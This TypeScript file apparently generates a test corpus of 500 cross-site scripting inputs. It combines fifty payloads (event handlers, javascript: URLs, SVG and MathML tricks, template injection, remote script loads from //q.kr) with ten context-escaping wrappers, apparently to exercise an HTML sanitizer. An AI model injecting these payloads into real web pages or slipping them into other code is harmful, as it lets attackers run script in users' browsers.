/** What a script that ran would call. */
export const HEARD = "q";

/** Each is whole in the shortest field that takes it; a name has twenty characters. */
const SCRIPTS: readonly string[] = [
  "<script>q()</script>",
  "<ScRiPt>q()</sCrIpT>",
  "<script src=//q.kr>",
  "<img src=x onerror=q()>",
  "<img/src/onerror=q()>",
  "<svg onload=q()>",
  "<svg/onload=q()>",
  "<svg><script>q()",
  "<svg><a href=javascript:q()><text y=9>q",
  "<svg><animate onbegin=q() attributeName=x dur=1s>",
  "<svg><use href=data:image/svg+xml,q>",
  "<math><mtext><img src onerror=q()>",
  "<math href=javascript:q()>q",
  "<b onclick=q()>q",
  "<b onmouseover=q()>q",
  "<b autofocus tabindex=0 onfocus=q()>q",
  "<input autofocus onfocus=q()>",
  "<select autofocus onfocus=q()>",
  "<body onload=q()>",
  "<body onpageshow=q()>",
  "<details open ontoggle=q()>q",
  "<video src onerror=q()>",
  "<video><source onerror=q()>",
  "<audio src onerror=q()>",
  "<object data=javascript:q()>",
  "<embed src=javascript:q()>",
  "<iframe src=javascript:q()>",
  "<iframe srcdoc='<img src onerror=q()>'>",
  "<form action=javascript:q()><button>q",
  "<button formaction=javascript:q()>q",
  "<a href=javascript:q()>q</a>",
  "<a href='java&#9;script:q()'>q</a>",
  "<base href=//q.kr>",
  "<link rel=stylesheet href=//q.kr>",
  "<meta http-equiv=refresh content=0;url=//q.kr>",
  "<style>*{background:url(//q.kr)}</style>",
  "<p style=background:url(//q.kr)>q",
  "<marquee onstart=q()>q",
  "<template><script>q()",
  "<noscript><p title='</noscript><svg onload=q()>'>",
  "<xss style=animation:x onanimationstart=q()>",
  "<dialog open onclose=q()>q",
  "<textarea autofocus onfocus=q()>",
  "<object onerror=q()>",
  "<isindex action=javascript:q()>",
  "javascript:q()",
  "data:text/html,<script>q()</script>",
  "{{constructor.constructor('q()')()}}",
  "${q()}",
  "&lt;script&gt;q()&lt;/script&gt;",
];

/** How it gets out of the place in which it is shown. */
const WAYS_OUT: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => `">${script}`,
  (script) => `'>${script}`,
  (script) => `</p>${script}`,
  (script) => `</textarea>${script}`,
  (script) => `--><!--${script}`,
  (script) => `]]>${script}`,
  (script) => `" onfocus=q() autofocus x="${script}`,
  (script) => `\\"}];q();//${script}`,
  (script) => script.replaceAll(" ", "\u00a0\u200b"),
];

/** 500 texts of somebody who means harm, no two alike, the simplest ones first. */
export function listHostileTexts(): readonly string[] {
  return WAYS_OUT.flatMap((wayOut) => SCRIPTS.map(wayOut));
}
